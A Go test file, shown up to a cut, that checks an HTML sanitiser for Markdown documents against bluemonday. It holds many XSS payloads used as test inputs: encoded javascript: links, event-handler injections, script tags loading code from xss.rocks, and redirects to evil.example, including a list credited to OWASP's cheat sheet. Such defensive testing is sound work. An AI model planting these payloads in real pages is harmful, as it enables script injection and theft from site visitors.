package api

import (
	"bytes"
	"fmt"
	"io/fs"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/microcosm-cc/bluemonday"
	"golang.org/x/net/html"
)

// bluemondayPolicy is the policy SIP bodies were sanitised with before
// sanitizeHTML: bluemonday's user-content policy with heading ids, cell
// alignment and task-list checkboxes allowed, and links marked nofollow and
// noreferrer. The tests hold sanitizeHTML against it.
func bluemondayPolicy() *bluemonday.Policy {
	p := bluemonday.UGCPolicy()
	p.AllowAttrs("id").Matching(regexp.MustCompile(`^[a-z0-9][a-z0-9_-]*$`)).OnElements("h1", "h2", "h3", "h4", "h5", "h6")
	p.AllowAttrs("align").Matching(regexp.MustCompile(`^(left|right|center)$`)).OnElements("th", "td")
	p.AllowAttrs("type").Matching(regexp.MustCompile(`^checkbox$`)).OnElements("input")
	p.AllowAttrs("checked", "disabled").OnElements("input")
	p.RequireNoFollowOnLinks(true)
	p.RequireNoReferrerOnLinks(true)
	return p
}

// difference is a way sanitizeHTML's output may part from bluemonday's on
// the same goldmark HTML: fix rewrites one side's tag (ours when onOurs,
// else bluemonday's) as the other would have written it, returning false
// to drop the tag (and, for an element, its end tag).
type difference struct {
	name, reason string
	onOurs       bool
	fix          func(tok *html.Token) bool
}

var (
	// headingIDPattern is the heading ids goldmark makes.
	headingIDPattern = regexp.MustCompile(`^[a-z0-9_-]+$`)

	differences = []difference{{
		name: "ol start",
		reason: "ours keeps an ordered list's start number (digits only, so it cannot carry anything else); " +
			"bluemonday's user-content policy drops it, and a list that goldmark starts at 3 was shown from 1. " +
			"The one place ours allows more.",
		onOurs: true,
		fix: func(tok *html.Token) bool {
			if tok.Data == "ol" {
				tok.Attr = slices.DeleteFunc(tok.Attr, func(a html.Attribute) bool { return a.Key == "start" })
			}
			return true
		},
	}, {
		name: "page id",
		reason: "ours drops a heading id that the SIP page uses itself (main, facts, results, ...), which the heading, " +
			"coming first, would take from the page's own section; bluemonday keeps it. Stricter.",
		fix: func(tok *html.Token) bool {
			if len(tok.Data) == 2 && tok.Data[0] == 'h' {
				tok.Attr = slices.DeleteFunc(tok.Attr, func(a html.Attribute) bool { return a.Key == "id" && pageIDs[a.Val] })
			}
			return true
		},
	}, {
		name: "host-relative URL",
		reason: "ours drops a link or image URL without a scheme that names a host (//host, ///host, which browsers " +
			"read as another site); bluemonday lets them through as relative. Stricter.",
		fix: func(tok *html.Token) bool {
			key := map[string]string{"a": "href", "img": "src"}[tok.Data]
			n := len(tok.Attr)
			tok.Attr = slices.DeleteFunc(tok.Attr, func(a html.Attribute) bool {
				return a.Key == key && strings.HasPrefix(a.Val, "//")
			})
			if n != len(tok.Attr) && tok.Data == "a" {
				tok.Attr = slices.DeleteFunc(tok.Attr, func(a html.Attribute) bool { return a.Key == "rel" })
			}
			return key == "" || len(tok.Attr) > 0
		},
	}}
)

// rewrite applies fix to every tag of s that a difference concerns,
// dropping the tags it rejects and the end tags of the elements it drops.
func rewrite(s string, fix func(*html.Token) bool) string {
	var out strings.Builder
	var dropped []string // open elements, "" for those kept
	z := html.NewTokenizer(strings.NewReader(s))
	for z.Next() != html.ErrorToken {
		tok := z.Token()
		switch tok.Type {
		case html.StartTagToken, html.SelfClosingTagToken:
			keep := fix(&tok)
			if tok.Type == html.StartTagToken && !isVoid(tok.Data) {
				name := ""
				if !keep {
					name = tok.Data
				}
				dropped = append(dropped, name)
			}
			if !keep {
				continue
			}
		case html.EndTagToken:
			if n := len(dropped); n > 0 {
				d := dropped[n-1]
				dropped = dropped[:n-1]
				if d != "" {
					continue
				}
			}
		}
		out.WriteString(tok.String())
	}
	return out.String()
}

func isVoid(name string) bool {
	switch name {
	case "br", "hr", "img", "input", "wbr", "col", "area", "embed", "source", "track", "meta", "link", "base":
		return true
	}
	return false
}

// explain returns the differences that turn bluemonday's output into ours,
// or an error showing where they part otherwise.
func explain(ours, theirs string) ([]string, error) {
	if ours == theirs {
		return nil, nil
	}
	var used []string
	for _, d := range differences {
		side := &theirs
		if d.onOurs {
			side = &ours
		}
		if fixed := rewrite(*side, d.fix); fixed != rewrite(*side, func(*html.Token) bool { return true }) {
			used = append(used, d.name)
			*side = fixed
		}
	}
	// Both sides went through the tokenizer once more; compare them that way.
	ours, theirs = rewrite(ours, func(*html.Token) bool { return true }), rewrite(theirs, func(*html.Token) bool { return true })
	if ours != theirs {
		i := 0
		for i < len(ours) && i < len(theirs) && ours[i] == theirs[i] {
			i++
		}
		from := max(0, i-80)
		return used, fmt.Errorf("differ at byte %d (after the listed differences %v):\n ours: …%s…\n bluemonday: …%s…",
			i, used, ours[from:min(len(ours), i+80)], theirs[from:min(len(theirs), i+80)])
	}
	return used, nil
}

// trickyMarkdown is Markdown meant to find where the sanitisers part:
// dangerous and odd links, raw HTML, images, tables, task lists and
// headings. differs names the differences each is expected to show.
var trickyMarkdown = []struct {
	name, src string
	differs   []string
}{
	{name: "javascript link", src: "[x](javascript:alert(1))"},
	{name: "javascript link, mixed case", src: "[x](JaVaScRiPt:alert(1))"},
	{name: "javascript link, entity-encoded letter", src: "[x](jav&#x61;script:alert(1))"},
	{name: "javascript link, entity-encoded colon", src: "[x](javascript&colon;alert(1))"},
	{name: "javascript link, percent-encoded", src: "[x](%6Aavascript:alert(1))"},
	{name: "javascript link, tab in scheme", src: "[x](<java\tscript:alert(1)>)"},
	{name: "javascript link, leading space in brackets", src: "[x](< javascript:alert(1)>)"},
	{name: "javascript autolink", src: "<javascript:alert(1)>"},
	{name: "javascript reference link", src: "[x][1]\n\n[1]: javascript:alert(1)"},
	{name: "vbscript link", src: "[x](vbscript:msgbox(1))"},
	{name: "file link", src: "[x](file:///etc/passwd)"},
	{name: "data link", src: "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"},
	{name: "data image", src: "![pixel](data:image/png;base64,iVBORw0KGgo=)"},
	{name: "data image link", src: "[x](data:image/png;base64,iVBORw0KGgo=)"},
	{name: "javascript link, NUL entity", src: "[x](java&#0;script:alert(1))"},
	{name: "javascript link, non-breaking space first", src: "[x](\u00a0javascript:alert(1))"},
	{name: "dot segments before a host", src: "[x](/.//evil.example) [y](.//evil.example)"},
	{name: "title breaking out of its quotes", src: `[x](https://a.example "t\" onmouseover=x")`},
	{name: "protocol-relative link", src: "[x](//evil.example/a)", differs: []string{"host-relative URL"}},
	{name: "protocol-relative image", src: "![a](//evil.example/a.png)", differs: []string{"host-relative URL"}},
	{name: "triple-slash link", src: "[x](///evil.example)", differs: []string{"host-relative URL"}},
	{name: "backslash link", src: `[x](/\evil.example)`},
	{name: "upper-case scheme", src: "[x](HTTPS://Example.COM/A?b=C#D)"},
	{name: "ftp link", src: "[x](ftp://example.com/f)"},
	{name: "mailto link with query", src: "[x](mailto:a@example.com?subject=hi&body=a%20b)"},
	{name: "relative links", src: "[a](../SIP-1.md) [b](#section) [c](?a=b) [d](/evaluations/SIP-2) [e](a:b/c)"},
	{name: "empty link", src: "[x]()"},
	{name: "link with title", src: `[x](https://example.com "A title")`},
	{name: "link with odd title", src: `[x](https://example.com "say: \"hi\" <b> & 'bye'")`},
	{name: "link with query", src: "[x](https://example.com/?a=1&b=<2>&c=%22)"},
	{name: "link with spaces", src: "[x](<https://example.com/a b>)"},
	{name: "unicode link", src: "[x](https://例え.jp/パス?q=ü)"},
	{name: "image in link", src: "[![alt](/i.png)](https://example.com)"},
	{name: "image with title", src: `![alt text](/img.png "a title")`},
	{name: "image with odd alt", src: `![a: "b" <c>](/img.png)`},
	{name: "autolinks", src: "<https://example.com/a> <foo@example.com> www.example.com/x https://example.com/y?z foo@example.org"},
	{name: "linkified javascript", src: "see javascript:alert(1) and http://a.example/<script>"},
	{name: "raw HTML block", src: "<div onclick=\"alert(1)\">\n<script>alert(1)</script>\n</div>\n\ntext"},
	{name: "inline HTML", src: "a <b onmouseover=alert(1)>b</b> <img src=x onerror=alert(1)> <a href=\"javascript:x\">c</a>"},
	{name: "HTML comment", src: "<!-- secret --> text <!-- more -->"},
	{name: "iframe and style", src: "<iframe src=\"https://evil.example\"></iframe>\n\n<style>p{}</style>"},
	{name: "entities", src: "&lt;script&gt; &amp; &copy; &#x27; &#0; &quot;"},
	{name: "NUL", src: "a\x00b"},
	{name: "table with alignment", src: "| a | b | c | d |\n|:--|:-:|--:|---|\n| 1 | 2 | 3 | 4 |\n| `|` | **b** | <x> | [l](https://e.example) |"},
	{name: "table with HTML", src: "| a |\n|---|\n| <script>alert(1)</script> |"},
	{name: "task list", src: "- [x] done\n- [ ] todo\n  - [X] nested\n\n1. [ ] ordered"},
	{name: "ordered list start", src: "3. three\n4. four", differs: []string{"ol start"}},
	{name: "ordered list from 1", src: "1. one\n2. two"},
	{name: "nested lists and quotes", src: "> quote\n> - item\n>   > deeper\n\n* a\n\n  b\n* c"},
	{name: "code fence with language", src: "```go\nfunc main() { fmt.Println(\"<b>\") }\n```"},
	{name: "code fence with HTML", src: "```html\n<script>alert(1)</script>\n```"},
	{name: "code fence with odd info", src: "``` \"><script>x</script>\ncode\n```"},
	{name: "indented code", src: "    <b>x</b>\n    & y"},
	{name: "code span", src: "`<script>` and ``a ` b``"},
	{name: "breaks", src: "a  \nb\\\nc\nd"},
	{name: "strikethrough and emphasis", src: "~~old~~ ~one~ *em **strong *both***_u_"},
	{name: "thematic breaks", src: "a\n\n---\n\n***\n\n___"},
	{name: "headings with odd text", src: "# Über Straße\n\n## <script>alert(1)</script>\n\n### a\"b'c<d>&e\n\n#### 123\n\n##### Duplicate\n\n###### Duplicate\n\n#\n\n# !!!\n\n# [link](https://example.com) in `code`"},
	{name: "headings named like the page's sections", src: "## Results\n\n## Versions\n\n## Results", differs: []string{"page id"}},
	{name: "heading starting with a dash", src: "# -leading dash"},
	{name: "heading starting with an underscore", src: "# _under_ score"},
	{name: "heading starting with an emoji", src: "## ❌ Failed\n\n## ✅ Passed"},
	{name: "setext headings", src: "Title\n=====\n\nSub *title*\n---"},
	{name: "front matter", src: "---\nid: x\nsip: 1\n---\n\n# Body"},
}

// markdownBodies are the Markdown files of the repository: the bundled
// SIPs, the SafeMolt corpus under registry/testdata, the docs and READMEs.
func markdownBodies(t *testing.T) map[string]string {
	t.Helper()
	bodies := map[string]string{}
	err := filepath.WalkDir("..", func(p string, e fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if e.IsDir() && p != ".." && (strings.HasPrefix(e.Name(), ".") || e.Name() == "node_modules" || e.Name() == "bin") {
			return fs.SkipDir
		}
		if e.IsDir() || !strings.HasSuffix(p, ".md") {
			return nil
		}
		b, err := os.ReadFile(p)
		bodies[filepath.ToSlash(p)] = string(b)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"../evaluations/SIP-2.md", "../registry/testdata/safemolt/evaluations/SIP-1.md"} {
		if _, ok := bodies[want]; !ok {
			t.Fatalf("no %s among the repository's Markdown files", want)
		}
	}
	doc, err := parseOpenAPI(openAPIYAML)
	if err != nil {
		t.Fatal(err)
	}
	bodies["openapi: info"] = doc.Info.Description
	for p, item := range doc.Paths {
		for _, method := range []string{"GET", "POST", "PUT", "PATCH", "DELETE"} {
			if op := item.operation(method); op != nil {
				bodies["openapi: "+method+" "+p] = op.Description
				if op.RequestBody != nil && op.RequestBody.Value != nil {
					bodies["openapi: "+method+" "+p+" request"] = op.RequestBody.Value.Description
				}
			}
		}
	}
	return bodies
}

// TestSanitizeMatchesBluemonday renders every Markdown body of the
// repository and a table of tricky ones, and sanitises the HTML with ours
// and with bluemonday: the two agree, or part only in a listed difference.
func TestSanitizeMatchesBluemonday(t *testing.T) {
	m := newMarkdown()
	policy := bluemondayPolicy()
	render := func(t *testing.T, src string) []byte {
		t.Helper()
		var buf bytes.Buffer
		if err := m.md.Convert([]byte(src), &buf); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}
	t.Run("repository", func(t *testing.T) {
		bodies := markdownBodies(t)
		names := slices.Sorted(func(yield func(string) bool) {
			for k := range bodies {
				if !yield(k) {
					return
				}
			}
		})
		seen := map[string]int{}
		for _, name := range names {
			h := render(t, bodies[name])
			used, err := explain(string(sanitizeHTML(h)), string(policy.SanitizeBytes(h)))
			if err != nil {
				t.Errorf("%s: %v", name, err)
			}
			for _, u := range used {
				seen[u]++
				t.Logf("%s: %s", name, u)
			}
		}
		t.Logf("%d bodies; listed differences met: %v", len(names), seen)
	})
	for _, tc := range trickyMarkdown {
		t.Run(tc.name, func(t *testing.T) {
			h := render(t, tc.src)
			ours, theirs := string(sanitizeHTML(h)), string(policy.SanitizeBytes(h))
			used, err := explain(ours, theirs)
			if err != nil {
				t.Fatalf("goldmark: %s\n%v", h, err)
			}
			if !slices.Equal(used, tc.differs) {
				t.Errorf("differences = %v, want %v\ngoldmark:   %s\nours:       %s\nbluemonday: %s", used, tc.differs, h, ours, theirs)
			}
			for _, d := range differences {
				if slices.Contains(used, d.name) {
					t.Logf("%s: %s", d.name, d.reason)
				}
			}
		})
	}
}

// TestSanitizeHTML: what the sanitiser makes of HTML goldmark never
// writes, where it is stricter than bluemonday by design.
func TestSanitizeHTML(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"script dropped with its content", `a<script>alert(1)</script>b`, `ab`},
		{"self-closed script still drops its content", `a<script/>alert(1)</script>b`, `ab`},
		{"style, iframe, svg, math, template dropped with content",
			`<style>x</style><iframe>y</iframe><svg><a href="/x">z</a></svg><math><mi>1</mi></math><template><p>t</p></template>.`, `.`},
		{"nested dropped elements", `<object><object></object>x</object>y`, `y`},
		{"unclosed dropped element drops the rest", `a<svg><p>b`, `a`},
		{"unknown elements unwrapped", `<div class="x"><span onclick="y">t</span></div>`, `t`},
		{"forms unwrapped, text inputs dropped", `<form action="/x"><input name="q"><button>go</button></form>`, `go`},
		{"checkbox kept, its values emptied", `<input type="checkbox" checked="checked" disabled="yes" name="n">`,
			`<input type="checkbox" checked="" disabled="">`},
		{"checkbox type must be exact", `<input type="Checkbox" checked>`, ``},
		{"heading ids only as goldmark makes them", `<h2 id="-a_b-1">x</h2><h3 id="A b">y</h3><h4 id="a:b">z</h4><p id="p">t</p>`,
			`<h2 id="-a_b-1">x</h2><h3>y</h3><h4>z</h4><p>t</p>`},
		{"heading ids the page uses itself dropped", `<h2 id="results">r</h2><h3 id="facts">f</h3><h4 id="main">m</h4><h2 id="results-1">s</h2>`,
			`<h2>r</h2><h3>f</h3><h4>m</h4><h2 id="results-1">s</h2>`},
		{"event handlers and styles dropped", `<p onclick="x" style="color:red" class="c" id="i">t</p>`, `<p>t</p>`},
		{"comments and doctype dropped", `<!DOCTYPE html><!-- c --><p>t<!-- d --></p>`, `<p>t</p>`},
		{"conditional comment dropped", `<!--[if IE]><script>x</script><![endif]-->t`, `t`},
		{"abruptly closed comment", `<!--><script>alert(1)</script>--><p>t</p>`, `--&gt;<p>t</p>`},
		{"comment opener in an attribute", `<p title="<!--">t</p><!-- " --><p>u</p>`, `<p>t</p><p>u</p>`},
		{"processing instruction dropped", `<?xml-stylesheet href="x"?><p>t</p>`, `<p>t</p>`},
		{"noscript read as raw text, as with scripting on", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
			`<img src="x">&#34;&gt;`},
		{"CDATA outside SVG is a bogus comment up to the first >", `<![CDATA[<script>x</script>]]>t`, `x]]&gt;t`},
		{"unclosed elements closed", `<p><em><strong>t`, `<p><em><strong>t</strong></em></p>`},
		{"stray end tags dropped", `</p></em>t</a></br></td>`, `t`},
		{"misnested end tags close what is inside", `<em><strong>t</em>u</strong>`, `<em><strong>t</strong></em>u`},
		{"self-closed element opened and closed", `<p/>t<em/>`, `<p></p>t<em></em>`},
		{"void elements written once", `<br><br/><hr></hr><img src="/a.png">`, `<br><br/><hr><img src="/a.png">`},
		{"link without a safe href unwrapped", `<a href="javascript:alert(1)">t</a>`, `t`},
		{"unwrapped link inside a link", `<a href="/a">x<a href="javascript:y">y</a>z</a>`,
			`<a href="/a" rel="nofollow noreferrer">xyz</a>`},
		{"rel replaced", `<a href="/a" rel="opener" target="_blank">t</a>`, `<a href="/a" rel="nofollow noreferrer">t</a>`},
		{"first of duplicate attributes", `<a href="/a" href="javascript:x">t</a>`, `<a href="/a" rel="nofollow noreferrer">t</a>`},
		{"entity-obfuscated scheme", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">t</a>`, `t`},
		{"hex-entity scheme without semicolons", `<a href="&#x6A&#x61&#x76&#x61script:alert(1)">t</a>`, `t`},
		{"named-entity colon", `<a href="javascript&colon;alert(1)">t</a>`, `t`},
		{"tab in scheme", "<a href=\"jav\tascript:alert(1)\">t</a>", `t`},
		{"encoded newline in scheme", `<a href="jav&#x0A;ascript:alert(1)">t</a>`, `t`},
		{"leading control character", "<a href=\"\x01javascript:alert(1)\">t</a>", `t`},
		{"leading spaces", `<a href="  javascript:alert(1)">t</a>`, `t`},
		{"protocol-relative", `<a href="//evil.example">t</a>`, `t`},
		{"backslashes", `<a href="\\evil.example">t</a><a href="/\evil.example">u</a>`, `tu`},
		{"NUL entity in scheme", `<a href="java&#0;script:alert(1)">t</a>`, `t`},
		{"entity-encoded host-relative", `<a href="&#x2F;&#x2F;evil.example">t</a>`, `t`},
		{"Unicode spaces around a URL trimmed, and checked after",
			"<a href=\"\u2028javascript:alert(1)\">t</a><a href=\"\u3000//evil.example\">u</a><a href=\"\u3000/ok\">v</a>",
			`tu<a href="/ok" rel="nofollow noreferrer">v</a>`},
		{"backticks in an unquoted value", "<a href=/x`onmouseover=alert(1)`>t</a>",
			`<a href="/x%60onmouseover=alert%281%29%60" rel="nofollow noreferrer">t</a>`},
		{"overlong UTF-8 stays bytes of text, never markup", "\xc0\xbcscript\xc0\xbe<img src=\"/a\" alt=\"\xc0\xbc\">",
			"\xc0\xbcscript\xc0\xbe<img src=\"/a\">"},
		{"a browser reads the first of two types", `<input type="text" type="checkbox" checked>`, ``},
		{"base, meta and link unwrapped",
			`<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example/x.css">t`,
			`t`},
		{"data image", `<img src="data:image/png;base64,iVBORw0KGgo=" alt="a">`, `<img alt="a">`},
		{"values re-escaped", `<img src="/a?b=&quot;&lt;" alt="a'b">`, `<img src="/a?b=&#34;&lt;" alt="a&#39;b">`},
		{"text re-escaped", `&lt;script&gt;alert("x")&lt;/script&gt;`, `&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;`},
		{"raw-text elements' content dropped", `<textarea><p>x</p></textarea><title>t</title><xmp><b></xmp>.`, `.`},
		{"non-ASCII lookalike tag", `<scrİpt>alert(1)</scrİpt>`, `alert(1)`},
		{"upper-case tags", `<P>t</P><SCRIPT>x</SCRIPT>`, `<p>t</p>`},
		{"whitespace only", " \n", " \n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := string(sanitizeHTML([]byte(tc.in))); got != tc.want {
				t.Errorf("sanitizeHTML(%q)\n got %q\nwant %q", tc.in, got, tc.want)
			}
		})
	}
}

// TestSanitizeDropsPageIDs: no heading of a SIP body takes an id of the
// page around it (layout.html and evaluation.html), which would take the
// page's fragment links and the names of its sections (aria-labelledby).
func TestSanitizeDropsPageIDs(t *testing.T) {
	idAttr := regexp.MustCompile(`\bid="([^"{}]+)"`)
	var ids []string
	for _, name := range []string{"layout.html", "evaluation.html"} {
		b, err := webFS.ReadFile("templates/web/" + name)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range idAttr.FindAllSubmatch(b, -1) {
			ids = append(ids, string(m[1]))
		}
	}
	if len(ids) < 5 {
		t.Fatalf("ids of the page = %v, want the page's sections' ids", ids)
	}
	for _, id := range ids {
		t.Run(id, func(t *testing.T) {
			in := `<h2 id="` + id + `">t</h2>`
			if got := string(sanitizeHTML([]byte(in))); got != "<h2>t</h2>" {
				t.Errorf("sanitizeHTML(%q) = %q, want %q", in, got, "<h2>t</h2>")
			}
		})
	}
}

// TestSanitizedStaysInItsContainer: HTML that would leave the article the
// page puts it in, and markup a browser nests otherwise than it is written
// (an element inside one of its own kind, end tags then left over), stays
// in it once sanitised. checkContained is first shown to see the escapes.
func TestSanitizedStaysInItsContainer(t *testing.T) {
	escapes := []string{
		`</article>x`, `</div><form action="https://evil.example">`, `</main><base href="https://evil.example/">`,
		`<plaintext>`, `<textarea>`, `<title>`, `<xmp>`, `<noscript>`, `<iframe>`,
		`<select>`, `<svg><foreignObject></article>`, `<math><mi></div>`, `<template></article>`,
	}
	misnested := []string{
		`<li>a<li>b</li></li></li>`, `<h2><h3>a</h3></h2></h2>`, `<p><p>a</p></p></p>`, `<ul><li><ul></li></ul></ul></ul>`,
		`<a href="/x"><a href="/y">a</a></a></a>`, `<em><p>a</em>b</p>`, `<table><table><tr><td>a</table></table></table>x`,
		`<table><td><table><td></td></table></td></table>`, `<table><em><td>a</em></td></table>`, `<td><th><tr>a</tr></th></td>`,
		`<pre><blockquote></pre></blockquote>`, `<code><h2><a href="/x"><p>t</code></a></h2>`, `<frameset><table><p>`,
		`</table></td></tr></tbody></li></p></h2></a>x`, `<body></body></html>x`,
	}
	for _, in := range escapes {
		if checkContained([]byte(in)) == nil {
			t.Errorf("checkContained(%q) = nil, want it to see the HTML leave the article", in)
		}
	}
	for _, in := range append(escapes, misnested...) {
		t.Run(in, func(t *testing.T) {
			out := sanitizeHTML([]byte(in))
			if err := checkContained(out); err != nil {
				t.Errorf("sanitizeHTML(%q) = %q: %v", in, out, err)
			}
		})
	}
}

// xssVectors are from OWASP's XSS filter evasion cheat sheet, and a few
// more, to seed FuzzSanitize.
var xssVectors = []string{
	`<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
	`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=javascript:alert('XSS')>`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	"<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
	"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
	`<a onmouseover="alert(document.cookie)">xxs link</a>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
	`<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
	`<IMG SRC=# onmouseover="alert('xxs')">`,
	`<IMG SRC= onmouseover="alert('xxs')">`,
	`<IMG onmouseover="alert('xxs')">`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
	`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
	"<IMG SRC=\"jav\tascript:alert('XSS');\">",
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
	"<IMG SRC=java\x00script:alert(\"XSS\")>",
	`<IMG SRC=" &#14;  javascript:alert('XSS');">`,
	`<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
	"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
	`<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
	`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
	`<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
	`<SCRIPT SRC=//xss.rocks/.j>`,
	`<IMG SRC="` + "`" + `<javascript:alert>` + "`" + `('XSS')"`,
	`<iframe src=http://xss.rocks/scriptlet.html <`,
	`\";alert('XSS');//`,
	`</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
	`<BODY BACKGROUND="javascript:alert('XSS')">`,
	`<IMG DYNSRC="javascript:alert('XSS')">`,
	`<IMG LOWSRC="javascript:alert('XSS')">`,
	`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
	`<IMG SRC='vbscript:msgbox("XSS")'>`,
	`<IMG SRC="livescript:[code]">`,
	`<svg/onload=alert('XSS')>`,
	`<BODY ONLOAD=alert('XSS')>`,
	`<BGSOUND SRC="javascript:alert('XSS');">`,
	`<BR SIZE="&{alert('XSS')}">`,
	`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
	`<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
	`<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
	`<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
	`<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
	`<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
	`<TABLE BACKGROUND="javascript:alert('XSS')"><TD BACKGROUND="javascript:alert('XSS')">`,
	`<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
	`<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">`,
	`<DIV STYLE="width: expression(alert('XSS'));">`,
	`<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
	`<BASE HREF="javascript:alert('XSS');//">`,
	`<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
	`<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
	`<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>`,
	`<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
	`<A HREF="http://66.102.7.147/">XSS</A>`,
	`<A HREF="http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D">XSS</A>`,
	`<A HREF="//www.google.com/">XSS</A>`,
	`<A HREF="http://google:ha.ckers.org">XSS</A>`,
	`<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="&#x20;javascript:alert(1)">x</a>`,
	`<a href="javascript&#58;alert(1)">x</a>`,
	`<a href="java&Tab;script:alert(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="\/\/evil.example">x</a>`,
	`<a href="/\evil.example">x</a>`,
	`<a href="https:evil.example">x</a>`,
	`<a href="mailto:a@b.c?body=<script>">x</a>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<svg><p><style><img src=x onerror=alert(1)></style></p></svg>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<p id="x" title="a' onmouseover='alert(1)">t</p>`,
	`<h2 id="a b">t</h2><h3 id="ok-id">u</h3>`,
	`<ol start="3" reversed type="a"><li value="9">x</li></ol>`,
	`<table><thead><tr><th align="center" style="x">a</th></tr></thead><tbody><tr><td align="left;x">b</td></tr></tbody></table>`,
	`<ul><li><input type="checkbox" checked disabled> done</li></ul>`,
	`<pre><code class="language-go">x &lt; y</code></pre>`,
	`<blockquote cite="javascript:x"><p>q</p></blockquote><del>d</del><hr/><br>`,
	`<!--><script>alert(1)</script>--><p title="<!--">t</p><!-- " --><?x ?>`,
	"<a href=\"\u2028javascript:alert(1)\">t</a><a href=\"java&#0;script:x\">u</a>\xc0\xbcscript\xc0\xbe",
	`<li>a<li>b</li></li></li><h2><h3>c</h3></h2></h2><a href="/x"><a href="/y">d</a></a></a><table><table><td>e</table></table></table>`,
}

// FuzzSanitize: whatever the input, the output, tokenised again, holds
// only allowed elements and attributes, links and images only to safe
// URLs, every element closed in order; sanitising it again changes
